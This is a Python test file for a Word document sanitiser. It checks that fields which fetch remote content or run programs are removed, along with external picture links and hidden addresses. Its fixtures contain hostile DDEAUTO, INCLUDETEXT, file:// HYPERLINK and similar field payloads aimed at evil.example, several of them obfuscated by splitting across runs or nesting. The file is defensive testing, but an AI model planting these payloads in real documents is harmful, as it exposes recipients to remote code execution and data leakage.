"""Markup without what acts by itself: fields, pictures from elsewhere, names that are not understood."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from drafter.problems import InputProblem
from tests.word_packages import NAMESPACES, OFFICE, paragraph, relations, word_file
from tests.writers.word_files.letterheads.test_rebuilt import made_of

TWO_WAYS = '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w">'


def runs(*pieces: str) -> str:
    """Runs of a field: `{` begins one, `|` parts code and result, `}` ends it, what follows `=` prints."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    said = []
    for piece in pieces:
        if piece in marks:
            said.append(f'<w:r><w:fldChar w:fldCharType="{marks[piece]}"/></w:r>')
        elif piece.startswith("="):
            said.append(f"<w:r><w:t>{piece[1:]}</w:t></w:r>")
        else:
            said.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
    return "".join(said)


FIELDS = [
    runs("{", " DDEAUTO c:\\a.exe evil.example ", "|", "=看得见", "}"), runs("{", "DDE", " a evil.example", "|", "=看得见", "}"),
    runs("{", "DD", "EAUTO", " evil.example", "|", "=看得见", "}"), runs("{", " dDeAuTo evil.example", "|", "=看得见", "}"),
    runs("{", " INCLUDETEXT http://evil.example", "|", "=看得见", "}"), runs("{", " INCLUDEPICTURE http://evil.example \\d", "|", "=看得见", "}"),
    runs("{", "\n\tINCLUDETEXT evil.example", "|", "=看得见", "}"), runs("{", "{", "QUOTE 68 68 69", "|", "=DDE", "}", " evil.example", "|", "=看得见", "}"),
    runs("{", " QUOTE ", "{", "DDE evil.example", "|", "=x", "}", "|", "=看得见", "}"), runs("{", " IF 1=1 ", "{", "INCLUDETEXT evil.example", "}", "|", "=看得见", "}"),
    '<w:fldSimple w:instr="DDEAUTO evil.example"><w:r><w:t>看得见</w:t></w:r></w:fldSimple>',
    '<w:fldSimple w:instr=" &#73;NCLUDETEXT evil.example"><w:r><w:t>看得见</w:t></w:r></w:fldSimple>',
    runs("=看得见", "{", "DDEAUTO evil.example"), runs("=看得见", "{", "LINK Excel evil.example", "}"), runs("{", "DATABASE evil.example", "|", "=看得见", "}"),
    runs("{", "HYPERLINK &quot;file://evil.example/a.exe&quot;", "|", "=看得见", "}"), runs("{", "HYPERLINK \\\\evil.example\\a", "|", "=看得见", "}"),
    runs("{", "MACROBUTTON evil.example", "|", "=看得见", "}"), runs("{", "AUTOTEXT evil.example", "|", "=看得见", "}"), runs("{", "=evil.example", "INCLUDETEXT", "|", "=看得见", "}"),
    runs("{", "PAGE ", "{", "DDEAUTO evil.example", "}", "|", "=看得见", "}"), runs("{", "RD evil.example", "}", "=看得见"),
    runs("=看得见", "{", "PAGE ", "|", "=1", "}") + TWO_WAYS + runs("{", "PAGE", "|")
    + "</mc:Choice><mc:Fallback>" + runs("{", "INCLUDEPICTURE evil.example", "|") + "</mc:Fallback></mc:AlternateContent>" + runs("=x", "}"),
    runs("=看得见", "{") + TWO_WAYS + runs("PAGE ") + "</mc:Choice><mc:Fallback>"
    + runs("INCLUDEPICTURE evil.example") + "</mc:Fallback></mc:AlternateContent>" + runs("|", "=x", "}"),
    runs("{") + "<w:r><w:instrText>PAGE <w:x/>INCLUDETEXT evil.example</w:instrText></w:r>" + runs("|", "=看得见", "}"),
    runs("{") + "<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>" + runs("INCLUDETEXT evil.example", "|", "=看得见", "}"),
    runs("{", "=PAGE ", "INCLUDETEXT evil.example", "|", "=看得见", "}"),
    runs("{") + '<w:fldSimple w:instr="REF bm"><w:r><w:t>PAGE</w:t></w:r></w:fldSimple>' + runs(" INCLUDETEXT evil.example", "|", "=看得见", "}"),
    runs("{") + '<w:r><w:sym w:font="a" w:char="0050"/></w:r>' + runs("PAGE INCLUDETEXT evil.example", "|", "=看得见", "}"),
    runs("{", "PAGE ") * 30 + runs("INCLUDETEXT evil.example") + runs("|", "=看得见", "}") * 30,
    runs("{", "PAGE ") + TWO_WAYS + runs("|") + "</mc:Choice><mc:Fallback>" + runs("INCLUDETEXT evil.example", "|")
    + "</mc:Fallback></mc:AlternateContent>" + runs("=看得见", "}"),
    '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE evil.example</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>看得见</w:t><w:fldChar w:fldCharType="end"/></w:r>',
]  # fmt: skip


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("where", ["body", "header", "cell"])
def test_a_field_that_fetches_or_runs_leaves_its_result(field, where):
    """However its code is cut into runs, wherever it stands."""
    inside = f"<w:p>{field}</w:p>"
    body = {"body": inside, "header": "", "cell": f"<w:tbl><w:tr><w:tc>{inside}</w:tc></w:tr></w:tbl>"}[where]
    data = word_file(
        body + paragraph("末"), extra=[
            ("word/header1.xml", f"<w:hdr {NAMESPACES}>{inside if where == 'header' else ''}</w:hdr>"),
            ("word/_rels/document.xml.rels", relations(
                f'<Relationship Id="a" Type="{OFFICE}/header" Target="header1.xml"/>', f'<Relationship Id="b" Type="{OFFICE}/styles" Target="styles.xml"/>',
            )),
        ],
    )  # fmt: skip

    whole, left = made_of(data)

    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        text = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml"))
    assert "看得见" in text and "evil.example" not in text and "DDE" not in text
    assert any("域" in one for one in left)


@pytest.mark.parametrize("code", [" PAGE \\* MERGEFORMAT ", "NUMPAGES", 'TOC \\o "1-3" \\h', " =SUM(ABOVE)", 'DATE \\@ "yyyy年M月d日"', "REF _Toc1 \\h",
                                  'HYPERLINK "https://gov.example/a?b=1"', 'HYPERLINK \\l "_Toc1"', "EQ \\o\\ac(○,1)", "SEQ 图 \\* ARABIC", "STYLEREF 标题"])  # fmt: skip
def test_a_field_that_only_counts_stays(code):
    """As it is."""
    field = runs("{", code.replace('"', "&quot;"), "|", "=1", "}")
    whole, left = made_of(word_file(f"<w:p>{field}</w:p>"))
    text = zipfile.ZipFile(io.BytesIO(whole)).read("word/document.xml").decode()

    assert not left
    assert text.count("fldChar ") == 3 and "instrText" in text


LINKED = [
    '<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="rId7"/></w:drawing></w:r></w:p>',
    '<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:embed="rId7"/></w:drawing></w:r></w:p>',
    '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>',
    '<w:p><w:r><w:pict><v:shape><v:imagedata o:relid="rId7"/></v:shape></w:pict></w:r></w:p>',
    '<w:p><w:r><w:pict><v:shape><v:fill r:id="rId7"/></v:shape></w:pict></w:r></w:p>', '<w:altChunk r:id="rId7"/>', '<w:p><w:subDoc r:id="rId7"/></w:p>',
]  # fmt: skip


@pytest.mark.parametrize("use", LINKED)
def test_what_leads_outside_serves_links_alone(use):
    """A relationship of a link is no way for a picture to come from elsewhere."""
    rels = relations(
        f'<Relationship Id="rId7" Type="{OFFICE}/hyperlink" Target="http://page.example/a" TargetMode="External"/>'
    )
    link = '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>点这里</w:t></w:r></w:hyperlink></w:p>'

    whole, _ = made_of(word_file(link + use, extra=[("word/_rels/document.xml.rels", rels)]))

    text = zipfile.ZipFile(io.BytesIO(whole)).read("word/document.xml").decode()
    assert text.count("rId7") == 1 and "点这里" in text


@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/styles.xml"])
@pytest.mark.parametrize("name", ["http://purl.oclc.org/ooxml/wordprocessingml/main", "http://purl.oclc.org/ooxml/wordprocessingml&#x2F;main", "&#104;ttp://purl.oclc.org/ooxml/wordprocessingml/main"])  # fmt: skip
def test_a_part_in_strict_names_is_no_part_of_a_letterhead(part, name):
    """However the name is spelt, in whichever part: what is not understood could not be looked through."""
    usual = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    strict = f'<q:x xmlns:q="{name}"/>'
    rels = relations(
        f'<Relationship Id="a" Type="{OFFICE}/header" Target="header1.xml"/>', f'<Relationship Id="b" Type="{OFFICE}/styles" Target="styles.xml"/>'
    )  # fmt: skip
    body = {part: strict}
    data = word_file(
        paragraph("甲") + body.get("word/document.xml", ""),
        extra=[("word/header1.xml", f"<w:hdr {NAMESPACES}>{body.get('word/header1.xml', '')}</w:hdr>"), ("word/_rels/document.xml.rels", rels)],
        **({"word/styles.xml": f'<w:styles xmlns:w="{usual}">{strict}</w:styles>'} if part == "word/styles.xml" else {}),
    )  # fmt: skip

    with pytest.raises(InputProblem, match="严格"):
        made_of(data)


@pytest.mark.parametrize(
    "target", ["_rels/document.xml.rels", "document.xml", "/[Content_Types].xml", "styles.xml"]
)
def test_a_part_is_of_one_kind(target):
    """A header is neither the text nor what says where things are."""
    rels = relations(
        f'<Relationship Id="b" Type="{OFFICE}/styles" Target="styles.xml"/>', f'<Relationship Id="a" Type="{OFFICE}/header" Target="{target}"/>'
    )  # fmt: skip
    whole, _ = made_of(word_file(paragraph("甲"), extra=[("word/_rels/document.xml.rels", rels)]))

    assert b"/header" not in zipfile.ZipFile(io.BytesIO(whole)).read("word/_rels/document.xml.rels")


def test_fields_in_fields_are_gone_through_once():
    """Eight thousand in one another, and as many that never end."""
    for field in (runs("{", "PAGE ") * 8_000 + runs("|", "=看得见", "}") * 8_000, runs("{") * 8_000):
        start = time.process_time()
        made_of(word_file(f"<w:p>{field}</w:p>"))
        assert time.process_time() - start < 5


A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
BOX = "<w:txbxContent><w:p><w:r><w:t>看得见</w:t></w:r></w:p></w:txbxContent>"
KEPT_TEXTS = {
    "a canvas with ink": f'<w:p><w:r><w:drawing><x {A}><a:g>{BOX}</a:g><a:contentPart r:id="rId7"/></x></w:drawing></w:r></w:p>',
    "a picture that was broken before": f'<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId99"/><v:textbox>{BOX}</v:textbox></v:shape></w:pict></w:r></w:p>',
    "a filled box": f'<w:p><w:r><w:drawing><x {A}><a:blipFill><a:blip r:link="rId7"/></a:blipFill>{BOX}</x></w:drawing></w:r></w:p>',
    "an effect": f'<w:p><w:r><w:drawing><x {A}>{BOX}<a:blip r:embed="rId8"><a:extLst><a:ext uri="u"><a:imgLayer r:embed="rId7"/></a:ext></a:extLst></a:blip></x></w:drawing></w:r></w:p>',
    "a shape in a group": f'<w:p><w:r><w:drawing><x {A}><y r:embed="rId7"/><a:p><a:r><a:t>看得见</a:t></a:r></a:p></x></w:drawing></w:r></w:p>',
    "WordArt in a group": '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId99"/></v:shape><v:shape><v:textpath string="看得见"/></v:shape></w:pict></w:r></w:p>',
    "text in what is broken": f'<w:p><w:r><w:pict><v:shape r:id="rId99"><v:textbox>{BOX}</v:textbox></v:shape></w:pict></w:r></w:p>',
    "ink in one way, text in the other": f"<w:p><w:r>{TWO_WAYS}<y r:id='rId7'/></mc:Choice><mc:Fallback><w:t>看得见</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>",
}  # fmt: skip


@pytest.mark.parametrize("how", KEPT_TEXTS)
def test_text_stays_where_a_picture_goes(how):
    """The smallest of a drawing is taken out, and of two ways the other shows."""
    rels = relations(
        '<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2007/relationships/hdphoto" Target="http://evil.example" TargetMode="External"/>',
        f'<Relationship Id="rId8" Type="{OFFICE}/image" Target="media/a.png"/>',
    )  # fmt: skip
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 9
    whole, _ = made_of(
        word_file(KEPT_TEXTS[how], extra=[("word/_rels/document.xml.rels", rels), ("word/media/a.png", png)])
    )

    text = zipfile.ZipFile(io.BytesIO(whole)).read("word/document.xml").decode()
    assert "看得见" in text and "rId7" not in text and "rId99" not in text and "Choice" not in text
    assert ("rId8" in text) is (how == "an effect")


@pytest.mark.parametrize(
    "use",
    ['<w:p><w:r><w:pict><v:shape><v:fill o:althref="http://evil.example/"/></v:shape></w:pict></w:r></w:p>',
     '<w:p><w:r><w:pict><v:shape><o:signatureline sigprovurl="http://evil.example/"/></v:shape></w:pict></w:r></w:p>',
     f'<w:p><w:r><w:drawing><x {A}><a:hlinkHover r:id="" action="evil.example" invalidUrl="file://evil.example"/></x></w:drawing></w:r></w:p>',
     '<w:p><sl:schemaLibrary xmlns:sl="s"><sl:schema manifestLocation="http://evil.example"/></sl:schemaLibrary></w:p>',
     '<w:p><w15:dataBinding xmlns:w15="x" w15:x="evil.example"/></w:p>'],
)  # fmt: skip
def test_no_address_is_left_in_a_corner(use):
    """Of drawings old and new, of schemas, of bound data."""
    whole, _ = made_of(word_file(paragraph("甲") + use))

    assert "evil.example" not in zipfile.ZipFile(io.BytesIO(whole)).read("word/document.xml").decode()


def test_words_in_what_goes_are_told():
    """Of something that nobody misses, when it is empty."""
    for inside, told in ((paragraph("甲"), ("读不懂的内容",)), ("", ())):
        whole, left = made_of(word_file(f"<w:smartTagType>{inside}</w:smartTagType>"))
        assert (
            left == told and "甲" not in zipfile.ZipFile(io.BytesIO(whole)).read("word/document.xml").decode()
        )


@pytest.mark.parametrize("text", ["", "<w:t>看得见</w:t>"])
def test_many_broken_pictures_are_gone_through_once(text):
    """Twenty thousand in one drawing, with words beside them and without."""
    pictures = '<x r:embed="rId99"/>' * 20_000
    start = time.process_time()
    made_of(word_file(f"<w:p><w:r><w:drawing>{pictures}{text}</w:drawing></w:r></w:p>"))
    assert time.process_time() - start < 5
